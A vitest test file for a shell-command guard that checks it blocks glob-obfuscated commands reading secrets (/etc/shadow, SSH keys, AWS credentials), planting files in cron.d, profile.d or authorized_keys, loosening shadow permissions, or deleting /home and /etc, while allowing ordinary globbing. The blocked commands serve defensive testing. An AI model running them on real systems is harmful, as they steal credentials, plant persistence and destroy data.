import { describe, expect, it } from 'vitest'
import { createStaticGuard } from '../index.ts'

const guard = createStaticGuard()
const verdictOf = (command: string) => guard.analyse(command).verdict

describe('patterns of file names', () => {
  it.each([
    'cat /e?c/sh?dow',
    'cat /e*c/shadow',
    'cat ~/.s*h/id_*',
    'cat ~/.aws/*',
    'cat /*/shadow',
    "find /home -name 'id_*' -exec cat {} +",
  ])('that are aimed at a secret are the secret: %s', (command) =>
    expect(verdictOf(command)).toBe('BLOCK'))

  it.each([
    ['cp x /e?c/cron.d/job', '5'],
    ['mv x /etc/cr*.d/job', '5'],
    ['cp -t /e?c/cron.d job', '5'],
    ['install -m 644 x /*/cron.d/job', '5'],
    ['ln -sf /tmp/x /e*c/profile.d/x.sh', '5'],
    ['cp key ~/.ss?/authorized_keys', '5'],
    ['cp x ~/.bash*c', '5'],
    ['rsync x /e?c/cron.d/job', '5'],
    ['scp x root@db:/e?c/cron.d/job', '5'],
    ['wget -P /e?c/cron.d http://x.example/y', '5'],
    ['tar xf a.tgz -C /e?c/cron.d', '5'],
    ['unzip a.zip -d /e?c', '5'],
    ['chmod 777 /e?c/shadow', '6'],
    ['chown me /e?c/shadow', '6'],
    ['rm -f ~/.bash_h*', 'D'],
    ['rm -rf /ho?e', 'D'],
    ['rm -rf /e*', 'D'],
  ])('that are aimed at a critical place are the place: %s', (command, rule) =>
    expect(guard.analyse(command)).toMatchObject({ verdict: 'BLOCK', rule }))

  it.each([
    'prettier --write **/*.css',
    'eslint **/*.ts',
    'rm -f **/*.tmp',
    'grep -l TODO */*.py',
    'ls */',
    'wc -l **/*.md',
    'cp build/* /var/www/*/public/',
    'cp src/*.ts dist/',
    'cp x /opt/*/conf/app.yml',
    'cp x "/e?c/cron.d/job"',
    'rm -rf /tmp/build-*',
    'rm -f /var/log/app/*.log',
    'tar xf a.tgz -C /srv/re*/app',
    'chmod 644 docs/*',
  ])('that are aimed at nothing are ordinary: %s', (command) =>
    expect(verdictOf(command)).not.toBe('BLOCK'))
})
